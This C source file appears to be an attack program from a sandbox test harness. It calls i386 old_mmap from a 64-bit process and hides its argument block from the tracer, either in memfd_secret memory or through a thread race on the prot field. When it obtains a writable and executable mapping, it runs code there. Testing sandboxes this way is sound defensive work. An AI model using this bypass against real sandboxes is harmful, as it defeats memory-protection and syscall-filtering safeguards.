/*
 * Attack: i386 old_mmap (int $0x80, number 90) from a 64-bit program. Its
 * six arguments live in a block in memory the program controls; the seccomp
 * filter sees only the block's address, and the kernel reads the block after
 * the tracer did.
 *
 *   attack_old_mmap secret       the block sits in memfd_secret memory, which
 *                                /proc/PID/mem cannot read: the tracer sees
 *                                nothing; the kernel maps anonymous RWX.
 *   attack_old_mmap race ROUNDS  a second thread flips the block's prot
 *                                between RW and RWX while the main thread
 *                                calls old_mmap, ROUNDS times: the tracer
 *                                may read RW while the kernel reads RWX.
 *
 * Whenever a mapping comes back writable and executable (checked in
 * /proc/self/maps), code is written into it and run.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>
#include <sys/syscall.h>

#include "common.h"

#define I386_NR_OLD_MMAP 90

struct old_mmap_args {
	uint32_t addr, len, prot, flags, fd, offset;
};

static long int80_1(long nr, long a)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a) : "memory", "cc", "r8", "r9", "r10", "r11");
	return ret;
}

static int rwx_at(const void *p)
{
	struct tw_map m;

	return tw_find_map(p, &m) == 0 && m.perms[1] == 'w' && m.perms[2] == 'x';
}

/* One old_mmap; if the result is W+X, run code there. Returns 1 when code ran. */
static int try_once(const char *label, struct old_mmap_args *block, int report)
{
	size_t pg = tw_page();
	long rc = int80_1(I386_NR_OLD_MMAP, (long)(uintptr_t)block);
	char run[64];
	void *p;

	if (rc < 0 && rc > -4096) {
		if (report)
			tw_step_raw(label, "mmap", rc);
		return 0;
	}
	p = (void *)(uintptr_t)(uint32_t)rc;
	if (report)
		tw_emit("STEP %s mmap rc=0x%lx errno=0", label, (unsigned long)(uintptr_t)p);
	if (rwx_at(p)) {
		tw_show_map(label, p);
		tw_put_code(p);
		snprintf(run, sizeof(run), "%s_call", label);
		tw_run(run, p);
		munmap(p, pg);
		return 1;
	}
	munmap(p, pg);
	return 0;
}

static void fill(struct old_mmap_args *block, uint32_t prot)
{
	block->addr = 0;
	block->len = (uint32_t)tw_page();
	block->prot = prot;
	block->flags = MAP_PRIVATE | MAP_ANONYMOUS;
	block->fd = (uint32_t)-1;
	block->offset = 0;
}

static int secret(void)
{
	size_t pg = tw_page();
	int fd = (int)syscall(SYS_memfd_secret, 0);
	struct old_mmap_args *block;

	tw_step("secret_create", "memfd_secret", fd, errno);
	if (fd < 0)
		return tw_done();
	if (ftruncate(fd, (off_t)pg) != 0)
		return 1;
	block = tw_mmap("secret_block", NULL, pg, TW_RW, MAP_SHARED | MAP_32BIT, fd, 0);
	if (block == MAP_FAILED)
		return tw_done();
	fill(block, TW_RWX);
	try_once("secret_old_mmap", block, 1);
	return tw_done();
}

static struct old_mmap_args *race_block;
static atomic_int race_stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&race_stop, memory_order_relaxed)) {
		((volatile struct old_mmap_args *)race_block)->prot = TW_RWX;
		((volatile struct old_mmap_args *)race_block)->prot = TW_RW;
	}
	return NULL;
}

static int race(long rounds)
{
	pthread_t thread;
	long i, wins = 0;

	race_block = tw_mmap("race_block", NULL, tw_page(), TW_RW, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (race_block == MAP_FAILED)
		return 1;
	fill(race_block, TW_RW);
	if (pthread_create(&thread, NULL, flipper, NULL) != 0)
		return 1;
	for (i = 0; i < rounds && !wins; i++)
		wins += try_once("race_old_mmap", race_block, 0);
	atomic_store(&race_stop, 1);
	pthread_join(thread, NULL);
	tw_emit("COUNT %ld", wins);
	return tw_done();
}

int main(int argc, char **argv)
{
	tw_init();
	if (argc >= 2 && strcmp(argv[1], "secret") == 0)
		return secret();
	if (argc >= 2 && strcmp(argv[1], "race") == 0)
		return race(tw_count_arg(argc, argv, 2, "attack_old_mmap race ROUNDS"));
	fprintf(stderr, "usage: attack_old_mmap secret | race ROUNDS\n");
	return 2;
}
